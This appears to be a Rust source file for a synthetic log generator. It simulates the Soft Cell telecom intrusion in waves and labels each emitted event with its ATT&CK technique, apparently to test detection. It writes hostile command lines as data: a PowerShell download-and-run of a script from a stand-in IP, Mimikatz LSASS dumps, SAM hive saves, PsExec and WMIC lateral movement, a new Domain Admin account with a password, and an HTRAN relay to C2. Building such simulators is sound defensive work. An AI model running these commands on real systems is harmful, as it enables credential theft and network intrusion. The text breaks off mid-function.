//! Operation Soft Cell, wave after wave (`../shared/docs/softcell.md` §1, stages 1–10): a web
//! shell on an Internet-facing server, discovery, credential theft, lateral movement with
//! stolen and replayed credentials, side-loaded persistence and the actor's own domain admins,
//! a relay, targeted CDR queries for a few subscribers over years of history, password-protected
//! split RAR archives in the Recycle Bin, exfiltration through the web server, and a VPN for
//! later. Each wave re-enters through a web server after the last was cleaned up, with its
//! tools renamed or rebuilt and new infrastructure. Every event is labelled with its wave,
//! stage and ATT&CK technique as it is emitted.

use serde::Serialize;

use crate::background::Background;
use crate::cdr::{MatchOn, TheftQuery};
use crate::clock::{self, DAY, HOUR, MINUTE, SECOND};
use crate::db::{Peer, Session, Statement};
use crate::dice::Dice;
use crate::flows::{self, Flow};
use crate::profile::TheftStyle;
use crate::queries::Sql;
use crate::sink::{Label, Sink};
use crate::web::{self, Request};
use crate::windows::{exe, Exe, Machine, Proc, Who};
use crate::world::{Role, World};
use crate::{Config, Estate};

/// The stages of softcell.md §1 the campaign plays.
pub const STAGES: [(u8, &str); 10] = [
    (1, "initial access / web shell"),
    (2, "discovery"),
    (3, "credential access"),
    (4, "lateral movement"),
    (5, "persistence"),
    (6, "command and control / relay"),
    (7, "CDR collection"),
    (8, "staging"),
    (9, "exfiltration"),
    (10, "long-term access (VPN)"),
];

/// What one wave brought and where it went.
#[derive(Debug, Clone, Serialize)]
pub struct WaveTruth {
    pub wave: u8,
    pub start: String,
    pub end: String,
    pub entry_host: String,
    pub web_shell: String,
    pub attacker_ip: String,
    pub c2_ip: String,
    pub c2_domain: String,
    pub hosts: Vec<String>,
    pub accounts_created: Vec<String>,
    pub db_account: String,
    pub collection_host: String,
    pub tools: Vec<String>,
    pub targets: Vec<String>,
}

/// A statement of the campaign's CDR collection, rendered when its hour comes so that its
/// audit line carries the rows the generated CDRs really gave it.
struct DbStep {
    time: i64,
    session: usize,
    action: DbAction,
    label: Label,
}

enum DbAction {
    Connect,
    /// A statement that reads CDRs, with the index of its query (its rows come from the CDRs).
    Run(Statement, usize),
    /// A statement that reads none.
    Plain(Statement),
    Disconnect,
}

pub struct Campaign {
    pub waves: Vec<WaveTruth>,
    pub queries: Vec<TheftQuery>,
    pub targets: Vec<String>,
    sessions: Vec<Session>,
    db_steps: Vec<DbStep>,
    next_step: usize,
}

struct Kit {
    wave: u8,
    /// The web server the wave enters through.
    entry: usize,
    /// The web shell's name (without extension).
    shell: String,
    attacker: String,
    c2: String,
    c2_domain: String,
    dir: &'static str,
    renamed: bool,
    build: u32,
    da_account: String,
    collect_host: usize,
    db_user: String,
    marker: (&'static str, &'static str),
    /// Writes its target numbers in national form (`0…`).
    national: bool,
}

struct Ctx<'a> {
    world: &'a World,
    estate: &'a Estate,
    dice: Dice,
    kit: Kit,
    truth: WaveTruth,
}

impl<'a> Ctx<'a> {
    fn m(&self, host: usize) -> Machine<'a> {
        self.estate.machine(self.world, host)
    }

    fn name(&self, host: usize) -> String {
        self.world.hosts[host].name.clone()
    }

    fn label(&self, sink: &mut Sink, stage: u8, technique: &'static str, what: &'static str) {
        sink.set_label(Some(Label {
            wave: self.kit.wave,
            stage,
            technique,
            what,
        }));
    }

    fn touch(&mut self, host: usize) {
        let name = &self.world.hosts[host].name;
        if !self.truth.hosts.iter().any(|h| h == name) {
            self.truth.hosts.push(name.clone());
        }
    }

    fn tool(&mut self, path: &str) -> String {
        if !self.truth.tools.iter().any(|t| t == path) {
            self.truth.tools.push(path.to_string());
        }
        path.to_string()
    }

    fn ip(&self, host: usize) -> String {
        self.world.hosts[host].ip.clone()
    }

    #[allow(clippy::too_many_arguments)]
    fn flow(
        &mut self,
        sink: &mut Sink,
        t: i64,
        orig: (&str, u16),
        resp: (&str, u16),
        service: &str,
        dur: f64,
        ob: u64,
        rb: u64,
    ) {
        let line = flows::line(
            &mut self.dice,
            t,
            &Flow {
                orig,
                resp,
                proto: "tcp",
                service,
                duration_s: dur,
                orig_bytes: ob,
                resp_bytes: rb,
            },
        );
        sink.text(self.estate.flows, t, line);
    }
}

impl Campaign {
    /// Plans every wave and emits its Windows, web and flow events into the sink (they are
    /// written when their time comes); CDR-store statements wait for [`Campaign::db_until`].
    pub fn plan(
        cfg: &Config,
        world: &World,
        estate: &Estate,
        bg: &Background<'_>,
        sink: &mut Sink,
    ) -> Campaign {
        let mut dice = Dice::new(cfg.seed, "campaign");
        let mut pool: Vec<usize> = (0..world.subscribers.len()).collect();
        let mut targets = Vec::new();
        for _ in 0..cfg.targets.min(pool.len()) {
            let i = dice.index(pool.len());
            targets.push(world.subscribers[pool.swap_remove(i)].msisdn.clone());
        }
        let mut campaign = Campaign {
            waves: Vec::new(),
            queries: Vec::new(),
            targets: targets.clone(),
            sessions: Vec::new(),
            db_steps: Vec::new(),
            next_step: 0,
        };
        let span = (cfg.days as i64 * DAY - 4 * DAY).max(DAY);
        for w in 1..=cfg.waves {
            let wave_targets: Vec<String> = targets
                .iter()
                .enumerate()
                .filter(|(i, _)| i % cfg.waves as usize == (w - 1) as usize || dice.chance(0.7))
                .map(|(_, m)| m.clone())
                .collect();
            let day0 = cfg.start + DAY + span * i64::from(w - 1) / i64::from(cfg.waves);
            // Late evening, operator time.
            let t0 = day0 - day0.rem_euclid(DAY)
                + (22 * HOUR - i64::from(cfg.utc_offset_min) * MINUTE).rem_euclid(DAY)
                + dice.range(0, 90) * MINUTE;
            let renamed = w > 1 || cfg.stealth >= 0.8;
            let habits = &world.profile.habits;
            let cycle = (w as usize - 1) % 3;
            let webs = world.web_servers();
            let dba_db_user = world.accounts_of(crate::world::AccountKind::Dba)[0]
                .name
                .replace('.', "_");
            let kit = Kit {
                wave: w,
                entry: webs[(w as usize - 1) % webs.len()],
                shell: habits.shells[cycle].into(),
                attacker: format!("203.0.113.{}", 20 + 17 * w),
                c2: format!("198.51.100.{}", 30 + 23 * w),
                c2_domain: [
                    "asyspy256.ddns.net",
                    "sz2016rose.ddns.net",
                    "cvdfhjh1231.myftp.biz",
                    "rosaf112.ddns.net",
                ][(w as usize - 1) % 4]
                    .into(),
                dir: habits.dirs[cycle],
                renamed,
                build: habits.build_base + u32::from(w),
                da_account: habits.accounts[cycle].into(),
                collect_host: world
                    .one([Role::FileServer, Role::JumpHost, Role::Backup][(w as usize - 1) % 3]),
                db_user: match (w as usize - 1) % 3 {
                    0 => "care_app".into(),
                    1 => dba_db_user,
                    _ => "bi_reader".into(),
                },
                marker: if w == 1 {
                    ("[S]", "[E]")
                } else {
                    ("[B]", "[F]")
                },
                national: habits.national_numbers && w % 2 == 0,
            };
            let truth = WaveTruth {
                wave: w,
                start: clock::rfc3339(t0),
                end: String::new(),
                entry_host: world.hosts[kit.entry].name.clone(),
                web_shell: String::new(),
                attacker_ip: kit.attacker.clone(),
                c2_ip: kit.c2.clone(),
                c2_domain: kit.c2_domain.clone(),
                hosts: Vec::new(),
                accounts_created: vec![kit.da_account.clone()],
                db_account: String::new(),
                collection_host: world.hosts[kit.collect_host].name.clone(),
                tools: Vec::new(),
                targets: wave_targets.clone(),
            };
            let mut ctx = Ctx {
                world,
                estate,
                dice: Dice::new(cfg.seed, &format!("wave{w}")),
                kit,
                truth,
            };
            let end = campaign.wave(&mut ctx, bg, sink, t0, &wave_targets);
            ctx.truth.end = clock::rfc3339(end);
            campaign.waves.push(ctx.truth);
        }
        sink.set_label(None);
        campaign
    }

    fn wave(
        &mut self,
        c: &mut Ctx<'_>,
        bg: &Background<'_>,
        sink: &mut Sink,
        t0: i64,
        targets: &[String],
    ) -> i64 {
        let world = c.world;
        let org = world.org();
        let entry = c.kit.entry;
        c.touch(entry);
        let web = c.m(entry);
        let role = world.hosts[entry].role;
        let parent = bg.web_proc(entry).clone();
        let attacker = c.kit.attacker.clone();
        let offset = c.estate.utc_offset_min;
        let db_host = world.one(Role::CdrDatabase);
        let db_ip = c.ip(db_host);
        let jump_h = world.one(Role::JumpHost);
        let dc_h = world.one(Role::DomainController);
        let fs_h = world.one(Role::FileServer);
        let mut t = t0;

        // Where the shell lives and how it is reached, by web stack.
        let shell = c.kit.shell.clone();
        let (shell_path, shell_uri, webroot, dest, exploit_pages): (
            String,
            String,
            &str,
            &str,
            [&str; 5],
        ) = match role {
            Role::WebIis => (
                format!("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{shell}.aspx"),
                format!("/aspnet_client/system_web/{shell}.aspx"),
                "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\",
                "c$\\inetpub\\wwwroot\\aspnet_client\\system_web",
                [
                    "/selfcare/upload.aspx",
                    "/selfcare/Telerik.Web.UI.WebResource.axd",
                    "/selfcare/login.aspx",
                    "/aspnet_client/",
                    "/selfcare/ScriptResource.axd",
                ],
            ),
            Role::WebTomcat => (
                format!("C:\\Tomcat9\\webapps\\portal\\upload\\{shell}.jsp"),
                format!("/portal/upload/{shell}.jsp"),
                "C:\\Tomcat9\\webapps\\portal\\upload\\",
                "c$\\Tomcat9\\webapps\\portal\\static",
                [
                    "/manager/html",
                    "/portal/upload/do.jsp",
                    "/portal/login.jsp",
                    "/host-manager/html",
                    "/portal/api/v1/upload",
                ],
            ),
            _ => (
                format!("C:\\wildfly\\standalone\\deployments\\{shell}.war"),
                format!("/{shell}/index.jsp"),
                "C:\\wildfly\\bin\\",
                "c$\\wildfly\\welcome-content",
                [
                    "/invoker/JMXInvokerServlet",
                    "/jmx-console/",
                    "/web-console/Invoker",
                    "/invoker/EJBInvokerServlet",
                    "/admin-console/",
                ],
            ),
        };
        let download_uri = |p: usize| -> String {
            match role {
                Role::WebIis => format!("/aspnet_client/system_web/cdr.part{p:02}.rar"),
                Role::WebTomcat => format!("/portal/static/cdr.part{p:02}.rar"),
                _ => format!("/cdr.part{p:02}.rar"),
            }
        };

        // Stage 1: exploit the public server, plant the shell.
        c.truth.web_shell = shell_path.clone();
        c.label(
            sink,
            1,
            "T1190",
            "exploit attempts against the public server",
        );
        for i in 0..(12 + c.dice.index(10)) {
            let stem = *c.dice.pick(&exploit_pages);
            let status = *c.dice.pick(&[500, 500, 404, 403, 200]);
            let tt = t + i as i64 * 20 * SECOND;
            let req = Request {
                method: if i % 3 == 0 { "GET" } else { "POST" },
                stem,
                query: if stem.ends_with(".axd") {
                    "type=rau"
                } else {
                    ""
                },
                port: 443,
                user: "",
                client: &attacker,
                agent: "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:45.0) Gecko/20100101 Firefox/45.0",
                referer: "",
                status,
                sc_bytes: if status == 500 { 3_420 } else { 1_245 },
                cs_bytes: 900 + c.dice.below(40_000),
                time_taken_ms: 40 + c.dice.below(900),
            };
            web::log(sink, world, &c.estate.web, offset, entry, tt, &req);
        }
        t += 8 * MINUTE;
        c.label(
            sink,
            1,
            "T1505.003",
            "web shell written by the web server process",
        );
        web.file(sink, t, &parent, &shell_path);
        let shell_req = |c: &mut Ctx<'_>, sink: &mut Sink, t: i64, bytes: u64| {
            let req = Request {
                method: "POST",
                stem: &shell_uri,
                query: "",
                port: 443,
                user: "",
                client: &attacker,
                agent: "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
                referer: "",
                status: 200,
                sc_bytes: bytes,
                cs_bytes: 300 + c.dice.below(700),
                time_taken_ms: 200 + c.dice.below(3000),
            };
            web::log(sink, world, &c.estate.web, offset, entry, t, &req);
        };
        shell_req(c, sink, t + 30 * SECOND, 120);
        t += MINUTE;

        // Stage 2: discovery through the shell. Every command is one request and one cmd.exe.
        let (s_mark, e_mark) = c.kit.marker;
        let dir = c.kit.dir;
        let shell_cmd = |c: &mut Ctx<'_>,
                         sink: &mut Sink,
                         t: i64,
                         stage: u8,
                         technique: &'static str,
                         what: &'static str,
                         tool: Exe<'_>,
                         line: &str|
         -> Proc {
            c.label(sink, 1, "T1505.003", "web shell request");
            let bytes = 400 + c.dice.below(6000);
            shell_req(c, sink, t - 2 * SECOND, bytes);
            c.label(
                sink,
                1,
                "T1059.003",
                "command shell spawned by the web server",
            );
            let cmd = web.spawn(
                sink,
                &mut c.dice,
                t,
                &parent,
                exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"),
                format!("cmd /c cd /d \"{webroot}\"&{line}&echo {s_mark}&cd&echo {e_mark}"),
            );
            c.label(sink, stage, technique, what);
            web.spawn(sink, &mut c.dice, t + 300_000, &cmd, tool, line.to_string())
        };
        let ping = format!("ping -n 1 {db_ip}");
        let recon: Vec<(&'static str, &'static str, Exe<'static>, &str)> = vec![
            (
                "T1033",
                "owner discovery",
                exe("C:\\Windows\\System32\\whoami.exe", "whoami.exe"),
                "whoami",
            ),
            (
                "T1016",
                "network configuration discovery",
                exe("C:\\Windows\\System32\\ipconfig.exe", "ipconfig.exe"),
                "ipconfig /all",
            ),
            (
                "T1049",
                "network connections discovery",
                exe("C:\\Windows\\System32\\NETSTAT.EXE", "netstat.exe"),
                "netstat -oan",
            ),
            (
                "T1033",
                "logged-on users",
                exe("C:\\Windows\\System32\\quser.exe", "quser.exe"),
                "query user",
            ),
            (
                "T1069.002",
                "domain admins discovery",
                exe("C:\\Windows\\System32\\net.exe", "net.exe"),
                "net group \"domain admins\" /domain",
            ),
            (
                "T1018",
                "remote system discovery",
                exe("C:\\Windows\\System32\\net.exe", "net.exe"),
                "net view /domain",
            ),
            (
                "T1018",
                "ping sweep",
                exe("C:\\Windows\\System32\\PING.EXE", "ping.exe"),
                &ping,
            ),
        ];
        let keep = recon.len() - (c.dice.index(3));
        for (technique, what, tool, line) in recon.into_iter().take(keep) {
            t += c.dice.range(15, 90) * SECOND;
            shell_cmd(c, sink, t, 2, technique, what, tool, line);
        }
        // The scanner and PortQry, dropped by the shell (renamed in later waves).
        let tools = world.profile.habits.tools;
        let renamed_tools = world.profile.habits.renamed;
        let nbt_path = c.tool(&if c.kit.renamed {
            format!("{dir}\\{}", renamed_tools[0])
        } else {
            format!("{dir}\\{}", tools[0])
        });
        let qry_path = c.tool(&format!("{dir}\\PortQry.exe"));
        t += MINUTE;
        c.label(
            sink,
            2,
            "T1105",
            "discovery tools uploaded through the shell",
        );
        shell_req(c, sink, t - SECOND, 200);
        web.file(sink, t, &parent, &nbt_path);
        web.file(sink, t + SECOND, &parent, &qry_path);
        t += 30 * SECOND;
        let subnet = db_ip
            .rsplit_once('.')
            .map_or(db_ip.clone(), |(n, _)| n.to_string());
        let nbt = shell_cmd(
            c,
            sink,
            t,
            2,
            "T1018",
            "NetBIOS scan of the CDR segment",
            Exe {
                path: &nbt_path,
                pe: "nbtscan.exe",
                build: c.kit.build,
            },
            &format!("{nbt_path} -r {subnet}.0/24"),
        );
        let web_ip = c.ip(entry);
        for host in world
            .hosts
            .iter()
            .filter(|h| h.ip.starts_with(&format!("{subnet}.")))
        {
            web.connect(
                sink,
                t + SECOND,
                &nbt,
                "udp",
                true,
                (&web_ip, 137),
                (&host.ip, 137),
            );
            let line = flows::line(
                &mut c.dice,
                t + SECOND,
                &Flow {
                    orig: (&web_ip, 137),
                    resp: (&host.ip, 137),
                    proto: "udp",
                    service: "dns",
                    duration_s: 0.01,
                    orig_bytes: 50,
                    resp_bytes: 229,
                },
            );
            sink.text(c.estate.flows, t + SECOND, line);
        }
        t += 2 * MINUTE;
        let qry = shell_cmd(
            c,
            sink,
            t,
            2,
            "T1046",
            "port probe of the CDR database",
            Exe {
                path: &qry_path,
                pe: "PortQry.exe",
                build: 0,
            },
            &format!("{qry_path} -n {db_ip} -e 5432"),
        );
        web.connect(
            sink,
            t + SECOND,
            &qry,
            "tcp",
            true,
            (&web_ip, 51_330),
            (&db_ip, 5432),
        );

        // Stage 3: credentials, from memory and from the registry hives.
        t += c.dice.range(10, 40) * MINUTE;
        let admins = world.accounts_of(crate::world::AccountKind::Admin);
        let stolen = admins[(c.kit.wave as usize) % admins.len()];
        let lsass = web.running(
            &mut c.dice,
            "C:\\Windows\\system32\\lsass.exe",
            "C:\\Windows\\system32\\lsass.exe",
            Who::system(),
        );
        let dumper = match c.kit.wave % 3 {
            1 => {
                let path = c.tool(&format!("{dir}\\{}", tools[3]));
                c.label(sink, 3, "T1105", "credential dumper uploaded");
                shell_req(c, sink, t - SECOND, 200);
                web.file(sink, t, &parent, &path);
                shell_cmd(c, sink, t + 20 * SECOND, 3, "T1003.001", "Mimikatz (modified) dumps LSASS", Exe { path: &path, pe: "mimikatz.exe", build: c.kit.build }, &format!("{path} \"privilege::debug\" \"sekurlsa::logonpasswords\" exit > {dir}\\o.txt"))
            }
            2 => {
                let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.76:8080/s.ps1'); Invoke-Mimikatz -DumpCreds";
                let encoded = utf16_base64(script);
                let ps = shell_cmd(
                    c,
                    sink,
                    t,
                    3,
                    "T1059.001",
                    "PowerShell Mimikatz",
                    exe(
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "PowerShell.EXE",
                    ),
                    &format!("powershell.exe -nop -w hidden -enc {encoded}"),
                );
                c.label(sink, 3, "T1003.001", "PowerShell Mimikatz script block");
                web.script_block(sink, &mut c.dice, t + 2 * SECOND, &ps, &format!("{script}\r\nfunction Invoke-Mimikatz {{ ... sekurlsa::logonpasswords ... }}"));
                ps
            }
            _ => {
                let path = c.tool(&format!("{dir}\\wuauclt64.exe"));
                c.label(sink, 3, "T1105", "credential dumper uploaded");
                shell_req(c, sink, t - SECOND, 200);
                web.file(sink, t, &parent, &path);
                shell_cmd(
                    c,
                    sink,
                    t + 20 * SECOND,
                    3,
                    "T1003.001",
                    "rebuilt Mimikatz dumps LSASS",
                    Exe {
                        path: &path,
                        pe: "",
                        build: c.kit.build,
                    },
                    &format!("{path} -l -o {dir}\\wu.log"),
                )
            }
        };
        c.label(sink, 3, "T1003.001", "LSASS memory read");
        web.access(
            sink,
            t + 25 * SECOND,
            &dumper,
            &lsass,
            if c.kit.wave == 1 { "0x1010" } else { "0x1410" },
        );
        for (k, hive) in ["sam", "system"].into_iter().enumerate() {
            let tt = t + (60 + 20 * k as i64) * SECOND;
            let out = format!("{dir}\\{hive}.hiv");
            let reg = shell_cmd(
                c,
                sink,
                tt,
                3,
                "T1003.002",
                "registry hive saved for offline cracking",
                exe("C:\\Windows\\System32\\reg.exe", "reg.exe"),
                &format!("reg save hklm\\{hive} {out} /y"),
            );
            c.label(sink, 3, "T1003.002", "hive file written");
            web.file(sink, tt + SECOND, &reg, &out);
        }

        // Stage 4: move on with the stolen admin: WMI to the jump host, files over SMB,
        // PsExec to the domain controller.
        t += c.dice.range(30, 90) * MINUTE;
        let jump_ip = c.ip(jump_h);
        let jump_name = c.name(jump_h);
        let entry_name = c.name(entry);
        let stolen_who = Who::of(stolen, 0);
        let pth = c.kit.wave != 1;
        let wmic = shell_cmd(c, sink, t, 4, "T1047", "remote command through WMI", exe("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe"), &format!("wmic /node:{jump_ip} /user:{}\\{} /password:******** process call create \"cmd /c mkdir {dir}\"", org.netbios, stolen.name));
        c.label(sink, 4, "T1078", "stolen admin credentials used explicitly");
        web.explicit_logon(
            sink,
            t + SECOND,
            &wmic,
            &stolen_who,
            &world.hosts[jump_h].fqdn,
            &jump_ip,
        );
        c.touch(jump_h);
        let jump = c.m(jump_h);
        c.label(
            sink,
            4,
            if pth { "T1550.002" } else { "T1078" },
            "network logon on the jump host with the stolen account",
        );
        let logon = jump.logon(
            sink,
            &mut c.dice,
            t + 2 * SECOND,
            &stolen_who,
            3,
            pth,
            (&web_ip, &entry_name),
            true,
        );
        let intruder = Who::of(stolen, logon);
        let wmiprvse = jump.running(
            &mut c.dice,
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            Who::system(),
        );
        c.label(
            sink,
            4,
            "T1047",
            "WMI provider host runs the intruder's command",
        );
        let mut jcmd = jump.spawn_as(
            sink,
            &mut c.dice,
            t + 3 * SECOND,
            &wmiprvse,
            exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"),
            format!("cmd /c mkdir {dir}"),
            intruder.clone(),
        );
        jcmd.integrity = "High";
        c.flow(
            sink,
            t + SECOND,
            (&web_ip, 49_702),
            (&jump_ip, 135),
            "dce_rpc",
            1.2,
            4_200,
            3_900,
        );
        // Tools over the admin share.
        t += 2 * MINUTE;
        let share_cmd = format!(
            "copy {dir}\\*.* \\\\{jump_ip}\\c$\\{}\\",
            dir.trim_start_matches("C:\\")
        );
        shell_cmd(
            c,
            sink,
            t,
            4,
            "T1570",
            "tools copied to the jump host over SMB",
            exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"),
            &share_cmd,
        );
        c.label(sink, 4, "T1570", "tools written over the admin share");
        jump.share_access(
            sink,
            t + SECOND,
            &intruder,
            &web_ip,
            "C$",
            &format!("{}\\RunHelp.exe", dir.trim_start_matches("C:\\")),
        );
        let system4 = Proc {
            guid: "{00000000-0000-0000-0000-000000000004}".into(),
            pid: 4,
            image: "System".into(),
            cmd: String::new(),
            who: Who::system(),
            integrity: "System",
        };
        let side_exe = c.tool(&format!("{dir}\\RunHelp.exe"));
        let side_dll = c.tool(&format!("{dir}\\ssMUIDLL.dll"));
        let htran_path = c.tool(&if c.kit.renamed {
            format!("{dir}\\{}", renamed_tools[1])
        } else {
            format!("{dir}\\{}", tools[1])
        });
        let rar_path = c.tool(&if c.kit.renamed {
            format!("{dir}\\{}", renamed_tools[2])
        } else {
            format!("{dir}\\{}", tools[2])
        });
        for (k, f) in [
            &side_exe,
            &side_dll,
            &format!("{dir}\\RunHelp.dat"),
            &htran_path,
            &rar_path,
        ]
        .into_iter()
        .enumerate()
        {
            jump.file(sink, t + (2 + k as i64) * SECOND, &system4, f);
        }
        c.flow(
            sink,
            t + SECOND,
            (&web_ip, 49_744),
            (&jump_ip, 445),
            "smb",
            8.0,
            4_800_000,
            12_000,
        );
        // PsExec from the jump host to the domain controller, as SYSTEM, with a renamed service.
        t += c.dice.range(10, 30) * MINUTE;
        let dc_ip = c.ip(dc_h);
        let svc_name = if c.kit.renamed {
            "WinMgmtHelper"
        } else {
            "PSEXESVC"
        };
        let psexec_path = c.tool(&format!("{dir}\\pse.exe"));
        c.label(sink, 4, "T1570", "PsExec to the domain controller");
        jump.file(sink, t - MINUTE, &system4, &psexec_path);
        jump.spawn(sink, &mut c.dice, t, &jcmd, Exe { path: &psexec_path, pe: "psexec.c", build: 0 }, format!("{psexec_path} \\\\{dc_ip} -accepteula -s -r {svc_name} cmd.exe /c \"net user {da} P@ssw0rd!{w} /add /domain & net group \\\"Domain Admins\\\" {da} /add /domain\"", da = c.kit.da_account, w = c.kit.wave));
        c.touch(dc_h);
        let dc = c.m(dc_h);
        let dc_logon = dc.logon(
            sink,
            &mut c.dice,
            t + SECOND,
            &stolen_who,
            3,
            pth,
            (&jump_ip, &jump_name),
            true,
        );
        let dc_who = Who::of(stolen, dc_logon);
        dc.share_access(
            sink,
            t + 2 * SECOND,
            &dc_who,
            &jump_ip,
            "ADMIN$",
            &format!("{svc_name}.exe"),
        );
        dc.service(
            sink,
            t + 3 * SECOND,
            &dc_who,
            svc_name,
            &format!("%SystemRoot%\\{svc_name}.exe"),
        );
        let dc_services = bg.services(dc_h).clone();
        let svc = dc.spawn(
            sink,
            &mut c.dice,
            t + 4 * SECOND,
            &dc_services,
            Exe {
                path: &format!("C:\\Windows\\{svc_name}.exe"),
                pe: "psexesvc.exe",
                build: 0,
            },
            format!("C:\\Windows\\{svc_name}.exe"),
        );
        dc.pipe(sink, t + 4 * SECOND, &svc, &format!("\\{svc_name}"));
        c.flow(
            sink,
            t,
            (&jump_ip, 50_112),
            (&dc_ip, 445),
            "smb",
            3.0,
            380_000,
            9_000,
        );

        // Stage 5: the actor's own domain admin, then side-loaded PoisonIvy kept by a task.
        c.label(
            sink,
            5,
            "T1136.002",
            "domain account created by the intruder",
        );
        let da = c.kit.da_account.clone();
        let da_sid = format!("{}-{}", org.sid, 7100 + u32::from(c.kit.wave));
        let dc_cmd = dc.spawn(sink, &mut c.dice, t + 5 * SECOND, &svc, exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"), format!("cmd.exe /c \"net user {da} P@ssw0rd!{w} /add /domain & net group \"Domain Admins\" {da} /add /domain\"", w = c.kit.wave));
        dc.spawn(
            sink,
            &mut c.dice,
            t + 6 * SECOND,
            &dc_cmd,
            exe("C:\\Windows\\System32\\net.exe", "net.exe"),
            format!("net user {da} P@ssw0rd!{w} /add /domain", w = c.kit.wave),
        );
        dc.account_created(sink, t + 7 * SECOND, &Who::system(), &da, &da_sid);
        c.label(
            sink,
            5,
            "T1098",
            "intruder's account added to Domain Admins",
        );
        dc.spawn(
            sink,
            &mut c.dice,
            t + 8 * SECOND,
            &dc_cmd,
            exe("C:\\Windows\\System32\\net.exe", "net.exe"),
            format!("net group \"Domain Admins\" {da} /add /domain"),
        );
        dc.member_added(
            sink,
            t + 9 * SECOND,
            &Who::system(),
            &da,
            &da_sid,
            "Domain Admins",
            true,
        );
        t += c.dice.range(20, 60) * MINUTE;
        c.label(
            sink,
            5,
            "T1053.005",
            "scheduled task for the side-loading host",
        );
        let task_name = if c.kit.renamed {
            "Microsoft\\Windows\\DeviceSync\\Sync"
        } else {
            "SamsungHelp"
        };
        jump.spawn(
            sink,
            &mut c.dice,
            t,
            &jcmd,
            exe("C:\\Windows\\System32\\schtasks.exe", "schtasks.exe"),
            format!(
                "schtasks /create /tn \"{task_name}\" /tr \"{side_exe}\" /sc onstart /ru SYSTEM /f"
            ),
        );
        jump.task(sink, t + SECOND, &intruder, task_name, &side_exe, "");
        let sched = jump.running(
            &mut c.dice,
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            Who::system(),
        );
        c.label(
            sink,
            5,
            "T1574.001",
            "signed vendor binary run from ProgramData side-loads the implant",
        );
        let implant = jump.spawn(
            sink,
            &mut c.dice,
            t + 5 * SECOND,
            &sched,
            Exe {
                path: &side_exe,
                pe: "RunHelp.exe",
                build: 0,
            },
            format!("\"{side_exe}\""),
        );
        jump.image_load(sink, t + 6 * SECOND, &implant, &side_dll, false);
        if c.kit.renamed {
            c.label(sink, 5, "T1547.001", "Run key for the side-loading host");
            jump.registry(
                sink,
                t + 8 * SECOND,
                &implant,
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\DeviceSync",
                &side_exe,
            );
        }
        c.label(sink, 5, "T1036.003", "renamed command shell");
        let renamed_cmd = format!("{dir}\\cmdhlp.exe");
        c.tool(&renamed_cmd);
        jump.file(sink, t + 20 * SECOND, &implant, &renamed_cmd);
        let ecmd = jump.spawn(
            sink,
            &mut c.dice,
            t + 30 * SECOND,
            &implant,
            Exe {
                path: &renamed_cmd,
                pe: "Cmd.Exe",
                build: 0,
            },
            format!("{renamed_cmd} /c hostname"),
        );

        // Stage 6: PoisonIvy beacons to dynamic DNS; the relay between segments.
        c.label(sink, 6, "T1071.001", "implant beacon to dynamic-DNS C2");
        let c2 = c.kit.c2.clone();
        jump.dns(
            sink,
            t + 40 * SECOND,
            &implant,
            &c.kit.c2_domain.clone(),
            &c2,
        );
        for k in 0..6 {
            let tt = t + 41 * SECOND + k * 17 * MINUTE;
            jump.connect(
                sink,
                tt,
                &implant,
                "tcp",
                true,
                (&jump_ip, 50_900 + k as u16),
                (&c2, 443),
            );
            c.flow(
                sink,
                tt,
                (&jump_ip, 50_900 + k as u16),
                (&c2, 443),
                "ssl",
                4.0,
                2_300,
                1_800,
            );
        }
        t += 30 * MINUTE;
        c.label(sink, 6, "T1090.002", "HTRAN relay started");
        let relay_args = if c.kit.renamed {
            format!("-s {c2} 8443 {db_ip} 5432")
        } else {
            format!("-slave {c2} 8443 {db_ip} 5432")
        };
        let relay = jump.spawn(
            sink,
            &mut c.dice,
            t,
            &ecmd,
            Exe {
                path: &htran_path,
                pe: if c.kit.renamed { "" } else { "htran.exe" },
                build: c.kit.build,
            },
            format!("{htran_path} {relay_args}"),
        );
        for k in 0..3 {
            let tt = t + (5 + 600 * k) * SECOND;
            jump.connect(
                sink,
                tt,
                &relay,
                "tcp",
                true,
                (&jump_ip, 51_200 + k as u16),
                (&c2, 8443),
            );
            jump.connect(
                sink,
                tt + SECOND,
                &relay,
                "tcp",
                true,
                (&jump_ip, 51_300 + k as u16),
                (&db_ip, 5432),
            );
            let bytes = 40_000 + c.dice.below(200_000);
            c.flow(
                sink,
                tt,
                (&jump_ip, 51_200 + k as u16),
                (&c2, 8443),
                "ssl",
                300.0,
                bytes,
                bytes / 9,
            );
            c.flow(
                sink,
                tt + SECOND,
                (&jump_ip, 51_300 + k as u16),
                (&db_ip, 5432),
                "postgresql",
                299.0,
                bytes / 9,
                bytes,
            );
        }

        // Stage 7: the CDR queries, from a host that is no application server, at night.
        let host = c.kit.collect_host;
        c.touch(host);
        let cm = c.m(host);
        let chost_ip = c.ip(host);
        let mut ccmd = jcmd.clone();
        if host != jump_h {
            t += 20 * MINUTE;
            c.label(sink, 4, "T1047", "WMI to the collection host");
            jump.spawn(
                sink,
                &mut c.dice,
                t,
                &ecmd,
                exe("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe"),
                format!("wmic /node:{chost_ip} process call create \"cmd /c mkdir {dir}\""),
            );
            let l = cm.logon(
                sink,
                &mut c.dice,
                t + SECOND,
                &stolen_who,
                3,
                pth,
                (&jump_ip, &jump_name),
                true,
            );
            let w = Who::of(stolen, l);
            let prv = cm.running(
                &mut c.dice,
                "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                Who::system(),
            );
